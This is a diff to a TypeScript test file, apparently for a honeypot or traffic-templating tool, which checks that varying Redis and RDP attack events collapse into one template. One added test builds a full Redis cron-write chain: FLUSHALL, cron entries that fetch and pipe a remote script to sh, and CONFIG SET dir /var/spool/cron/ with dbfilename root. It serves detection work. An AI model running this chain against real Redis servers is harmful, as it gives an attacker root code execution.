@@ -41,6 +41,11 @@ function rpc(id: string, method = 'eth_blockNumber', host = '203.0.113.10:8545')
     `{"jsonrpc":"2.0","method":"${method}","params":[],"id":${id}}`);
 }
 
+/** A Redis command as RESP: an array of bulk strings, each after its `$length`. */
+function resp(...args: string[]): string {
+  return `*${args.length}\r\n${args.map((a) => `$${a.length}\r\n${a}\r\n`).join('')}`;
+}
+
 function rdpCookie(cookie: string): TemplateInput {
   return event('rdp', 'x', { fields: { cookie, requested_protocols: ['ssl', 'hybrid'] } });
 }
@@ -145,11 +150,22 @@ describe('variable parts share a template', () => {
   });
 
   it('Redis RESP arguments of other lengths, and AUTH passwords', () => {
-    const resp = (...args: string[]) => event('redis', `*${args.length}\r\n` +
-      args.map((a) => `$${a.length}\r\n${a}\r\n`).join(''));
-    same(resp('SET', 'x7Gq2', 'http://192.0.2.1/a'), resp('SET', 'Kp9zQ7b', 'http://192.0.2.77/a'));
-    same(resp('AUTH', 'foobared'), resp('AUTH', 'redis123456'));
+    const redis = (...args: string[]) => event('redis', resp(...args));
+    same(redis('SET', 'x7Gq2', 'http://192.0.2.1/a'),
+      redis('SET', 'Kp9zQ7b', 'http://192.0.2.77/a'));
+    same(redis('AUTH', 'foobared'), redis('AUTH', 'redis123456'));
     same(event('redis', 'AUTH foobared\r\n'), event('redis', 'AUTH p@ss\r\n'));
+  });
+
+  it('200 Redis cron-write chains told apart by a counter in key and file names', () => {
+    const chain = (n: number) => event('redis', [['FLUSHALL'],
+      ['SET', `x${n}_3`, `\n\n*/1 * * * * wget http://198.51.100.7/x${n}_3.sh\n\n`],
+      ['SET', `x${n}_4`, `\n\n*/2 * * * * curl -fsSL http://198.51.100.7/a${n}.sh | sh\n\n`],
+      ['CONFIG', 'SET', 'dir', '/var/spool/cron/'], ['CONFIG', 'SET', 'dbfilename', 'root'],
+      ['SAVE']].map((args) => resp(...args)).join(''));
+    const ids = new Set(Array.from({ length: 200 }, (_, i) => templateOf(chain(i + 1))));
+    expect([...ids], templateSkeleton(chain(5)) ?? '').toHaveLength(1);
+    expect(templateSkeleton(chain(150))).toContain('$<n>\nx<n>_<n>\n$<n>\n');
   });
 
   it('user names and passwords of line protocols', () => {
